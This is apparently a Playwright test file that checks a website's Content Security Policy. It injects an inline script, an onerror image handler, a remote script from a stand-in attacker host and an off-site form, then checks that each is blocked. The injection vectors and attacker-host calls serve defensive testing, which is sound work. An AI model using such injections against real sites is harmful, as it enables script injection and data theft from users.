import type { Page } from 'playwright';
import { expect, test } from 'vitest';
import { browserForTests } from './browser.ts';

// policy violations are console errors, so every browser test of a page covers its policy
const { open, allowConsole } = browserForTests();
declare global {
  interface Window {
    onViolation?: (refusal: string) => void;
  }
}

/** Reports all policy violations of a page to the test. */
function reportViolations(): void {
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, documentURI }) =>
    window.onViolation?.(`${violatedDirective} ${blockedURI} on ${documentURI}`),
  );
}

/** Opens an empty page; violations of pages it shows are added to `refused`. */
async function openWatched(refused: string[]): Promise<Page> {
  const page = await open('about:blank');
  await page.exposeFunction('onViolation', (refusal: string) => void refused.push(refusal));
  await page.addInitScript(reportViolations);
  return page;
}

test('injected scripts do not run and forms do not leave the site (HARDENING A08)', async () => {
  allowConsole(/Content Security Policy/);
  const refused: string[] = [];
  const page = await openWatched(refused);
  await page.goto('/sg/en');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.text = 'document.title = "taken over"';
    const picture = document.createElement('img');
    picture.setAttribute('onerror', 'document.title = "taken over"');
    picture.src = 'data:,';
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(script, picture, foreign, form);
    form.submit();
  });
  await expect
    .poll(() => refused.map((refusal) => refusal.split(' ', 1)[0]).sort())
    .toEqual(['form-action', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(await page.title()).not.toBe('taken over');
});

test('the API documentation works under its policy', async () => {
  const refused: string[] = [];
  const page = await openWatched(refused);
  await page.goto('/api/docs/');
  await page.getByText('/api/v1/rabbit/{region}/listings', { exact: true }).waitFor();
  expect(refused).toEqual([]);
});
